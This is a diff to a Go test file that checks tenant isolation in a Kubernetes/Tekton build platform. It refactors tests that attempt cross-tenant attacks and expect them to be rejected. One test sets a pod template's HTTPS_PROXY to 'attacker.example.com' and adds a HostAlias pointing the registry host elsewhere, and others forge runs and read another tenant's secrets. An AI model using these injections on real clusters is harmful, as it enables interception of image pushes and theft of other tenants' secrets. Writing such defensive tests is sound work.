@@ -29,7 +29,7 @@ func TestVictimGoesOn(t *testing.T) {
 	ctx := within(t, 6*time.Minute)
 	attacker := battlefield(t)
 	const account = "trigger-payments"
-	bindTektonEdit(t, account)
+	bindTektonEdit(t, stage.SharedNamespace, account)
 	grant(t, account, useOf("payments"))
 	trigger := as(t, "system:serviceaccount:"+stage.SharedNamespace+":"+account)
 	for pipeline, params := range map[string]map[string]string{
@@ -77,7 +77,7 @@ func TestVictimGoesOn(t *testing.T) {
 // H5: what an author writes into the Pod template does not come between the push and the registry.
 func TestHolePodTemplate(t *testing.T) {
 	ctx := within(t, 2*time.Minute)
-	run := pushOnly(stage.Payments, stage.Payments.Repository)
+	run := stage.NewPush(stage.Payments, stage.Payments.Repository)
 	run.Spec.TaskRunTemplate.PodTemplate = &pipelinepod.Template{
 		Env:         []corev1.EnvVar{{Name: "HTTPS_PROXY", Value: "http://attacker.example.com"}, {Name: "SSL_CERT_FILE", Value: "/attacker"}},
 		HostAliases: []corev1.HostAlias{{IP: "10.0.0.1", Hostnames: []string{s.Quay.Host}}},
@@ -108,16 +108,7 @@ func TestHolePodTemplate(t *testing.T) {
 // A tenant's own namespace that opts in: the robot of the namespace's team, and no other.
 func TestHoleGuardedNamespace(t *testing.T) {
 	ctx := within(t, 2*time.Minute)
-	patch := func(value string) {
-		t.Helper()
-		_, err := s.Kube.CoreV1().Namespaces().Patch(context.Background(), stage.Platform.Namespace, types.MergePatchType,
-			[]byte(`{"metadata":{"labels":{"quay.comptech-lab.com/guarded":`+value+`}}}`), metav1.PatchOptions{})
-		if err != nil {
-			t.Fatal(err)
-		}
-	}
-	patch(`"true"`)
-	t.Cleanup(func() { patch("null") })
+	guardNamespace(t, stage.Platform.Namespace)
 	pod := func(secret string) error {
 		_, err := s.Kube.CoreV1().Pods(stage.Platform.Namespace).Create(ctx, &corev1.Pod{
 			ObjectMeta: metav1.ObjectMeta{GenerateName: "attack-"},
@@ -138,27 +129,46 @@ func TestHoleGuardedNamespace(t *testing.T) {
 	if _, err := s.Tekton.TektonV1beta1().CustomRuns(stage.Platform.Namespace).Create(ctx, forgery, metav1.CreateOptions{}); !apierrs.IsInvalid(err) {
 		t.Errorf("a CustomRun by hand: %v, want Invalid", err)
 	}
-	run := pushOnly(stage.Platform, stage.Payments.Repository)
+	run := stage.NewPush(stage.Platform, stage.Payments.Repository)
 	run.Labels = map[string]string{"apps.platform/team": "payments"}
 	if _, err := as(t, "system:serviceaccount:default:nobody").TektonV1().PipelineRuns(stage.Platform.Namespace).Create(ctx, run, metav1.CreateOptions{}); err == nil {
 		t.Error("another team's label was let in")
 	}
 }
 
+// guardNamespace puts the label on the namespace that has the policies guard it, until the end of the test.
+func guardNamespace(t *testing.T, name string) {
+	t.Helper()
+	patch := func(value string) {
+		t.Helper()
+		_, err := s.Kube.CoreV1().Namespaces().Patch(context.Background(), name, types.MergePatchType,
+			[]byte(`{"metadata":{"labels":{"quay.comptech-lab.com/guarded":`+value+`}}}`), metav1.PatchOptions{})
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	patch(`"true"`)
+	t.Cleanup(func() { patch("null") })
+}
+
 // H10, H11: an ExternalSecret that reads another tenant's path, against the real CRD.
 func TestHoleExternalSecret(t *testing.T) {
-	ctx := within(t, 3*time.Minute)
+	testExternalSecrets(t, within(t, 3*time.Minute), stage.SharedNamespace)
+}
+
+// testExternalSecrets tries as who may write ExternalSecrets in the namespace, and onboard team platform there.
+func testExternalSecrets(t *testing.T, ctx context.Context, namespace string) {
 	installDefinition(t, ctx, "externalsecrets")
 	const account = "trigger-platform"
 	resource := schema.GroupVersionResource{Group: "external-secrets.io", Version: "v1", Resource: "externalsecrets"}
-	grant(t, account, rbacv1.PolicyRule{APIGroups: []string{resource.Group}, Resources: []string{resource.Resource}, Verbs: []string{"*"}})
+	grantIn(t, namespace, account, rbacv1.PolicyRule{APIGroups: []string{resource.Group}, Resources: []string{resource.Resource}, Verbs: []string{"*"}})
 	config := rest.CopyConfig(s.Config)
-	config.Impersonate.UserName = "system:serviceaccount:" + stage.SharedNamespace + ":" + account
+	config.Impersonate.UserName = "system:serviceaccount:" + namespace + ":" + account
 	client, err := dynamic.NewForConfig(config)
 	if err != nil {
 		t.Fatal(err)
 	}
-	secrets := client.Resource(resource).Namespace(stage.SharedNamespace)
+	secrets := client.Resource(resource).Namespace(namespace)
 	create := func(edit func(*unstructured.Unstructured)) error {
 		object := &unstructured.Unstructured{Object: map[string]any{
 			"apiVersion": "external-secrets.io/v1", "kind": "ExternalSecret",
@@ -184,7 +194,7 @@ func TestHoleExternalSecret(t *testing.T) {
 	if err := create(func(*unstructured.Unstructured) {}); !apierrs.IsInvalid(err) || !strings.Contains(err.Error(), "onboard") {
 		t.Errorf("without the right to onboard: %v, want Invalid", err)
 	}
-	grant(t, account, rbacv1.PolicyRule{APIGroups: []string{v1alpha1.Group}, Resources: []string{v1alpha1.TenantsResource},
+	grantIn(t, namespace, account, rbacv1.PolicyRule{APIGroups: []string{v1alpha1.Group}, Resources: []string{v1alpha1.TenantsResource},
 		ResourceNames: []string{"platform", "platform.sample"}, Verbs: []string{"onboard"}})
 	if err := create(func(*unstructured.Unstructured) {}); err != nil {
 		t.Errorf("the own tenant: %v", err)
